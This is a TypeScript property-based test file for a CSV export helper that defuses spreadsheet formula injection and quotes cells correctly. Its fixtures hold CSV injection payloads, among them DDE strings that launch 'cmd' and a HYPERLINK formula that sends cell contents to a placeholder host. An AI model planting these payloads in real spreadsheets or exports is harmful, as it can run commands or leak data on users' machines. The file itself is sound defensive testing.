import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell, csvLine, defuseFormula, isPlainNumber } from './csv.js';

const SEPARATORS = [';', ',', '\t', '|'] as const;
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\n', '\0'];

/** Texts that lean on the edges of the rule: trigger starts, quotes, separators, line breaks, numbers. */
const hostileText = fc.oneof(
  fc.string(),
  fc.string({ unit: 'binary' }),
  fc.tuple(fc.constantFrom(...TRIGGERS, ' ', '"', "'", ';', ',', '|'), fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '"', ';', ',', '\t', '\r', '\n', '|', ' ', '1', '.', 'A', '(', ')') })).map(([first, rest]) => first + rest),
  fc.constantFrom('=HYPERLINK("http://x.test/?"&A1;"ver")', "+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3', '=1+1', '\t=1', '\r=1', '-', '--1', '-1e5', '-1,5', '-1.234,5'),
);

const parseLine = (line: string, separator: string): string[] => {
  const records = parse(`${line}\r\n`, { delimiter: separator, record_delimiter: '\r\n', relax_column_count: true }) as string[][];
  expect(records).toHaveLength(1);
  return records[0]!;
};

describe('defuseFormula', () => {
  it.each([
    ['=HYPERLINK("http://x.test";"ver")', '\'=HYPERLINK("http://x.test";"ver")'],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ['@SUM(1+1)', "'@SUM(1+1)"],
    ['-2+3', "'-2+3"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['-', "'-"],
    ['-1e5', "'-1e5"],
    ['Granja Norte', 'Granja Norte'],
    ['L-7', 'L-7'],
    ['', ''],
  ])('writes %j as %j', (text, expected) => {
    expect(defuseFormula(text)).toBe(expected);
  });

  it('leaves the numbers the product writes as numbers: negative, with either decimal mark, with or without grouping', () => {
    for (const text of ['-2', '-2,5', '-2.5', '-1.234,5', '-1,234.5', '-0,001', '1234,5', '0']) expect(defuseFormula(text)).toBe(text);
    fc.assert(
      fc.property(fc.double({ noNaN: true, noDefaultInfinity: true, min: -1e12, max: 1e12 }), fc.constantFrom('pt-BR', 'en-US', 'es-ES'), fc.integer({ min: 0, max: 6 }), fc.boolean(), (value, locale, digits, grouping) => {
        const text = new Intl.NumberFormat(locale, { minimumFractionDigits: digits, maximumFractionDigits: digits, useGrouping: grouping }).format(value);
        expect(isPlainNumber(text)).toBe(true);
        expect(defuseFormula(text)).toBe(text);
      }),
    );
  });

  it('is idempotent: a defused text is not defused again', () => {
    fc.assert(
      fc.property(hostileText, (text) => {
        expect(defuseFormula(defuseFormula(text))).toBe(defuseFormula(text));
      }),
    );
  });
});

describe('csvCell and csvLine', () => {
  it('quote a cell holding the separator, a quote, a line break or edge spaces', () => {
    expect(csvCell('1,5', ';')).toBe('1,5');
    expect(csvCell('1,5', ',')).toBe('"1,5"');
    expect(csvCell('-1,5', ',')).toBe('"-1,5"');
    expect(csvCell('a\tb', '\t')).toBe('"a\tb"');
    expect(csvCell('say "hi"', ';')).toBe('"say ""hi"""');
    expect(csvCell(' edge', ';')).toBe('" edge"');
    expect(csvCell('a;b', ';')).toBe('"a;b"');
    expect(csvCell('two\nlines', ';')).toBe('"two\nlines"');
    expect(csvCell('', ';')).toBe('');
    expect(csvCell('=1;2', ';')).toBe(`"'=1;2"`);
    expect(csvLine(['L-7', '2026-11-10;L-7', '1,5', '@x'], ';')).toBe(`L-7;"2026-11-10;L-7";1,5;'@x`);
  });

  it.each(SEPARATORS)('round-trip through csv-parse with %j: each cell reads back as its defused text', (separator) => {
    fc.assert(
      fc.property(fc.array(hostileText, { minLength: 2, maxLength: 6 }), (cells) => {
        expect(parseLine(csvLine(cells, separator), separator)).toEqual(cells.map(defuseFormula));
      }),
      { numRuns: 500 },
    );
  });

  it.each(SEPARATORS)('never write a cell that starts a formula unless it is a plain number (%j)', (separator) => {
    fc.assert(
      fc.property(fc.array(hostileText, { minLength: 2, maxLength: 6 }), (cells) => {
        for (const cell of parseLine(csvLine(cells, separator), separator)) {
          if (/^[=+\-@\t\r\n\0]/.test(cell)) expect(isPlainNumber(cell), JSON.stringify(cell)).toBe(true);
        }
      }),
      { numRuns: 500 },
    );
  });
});
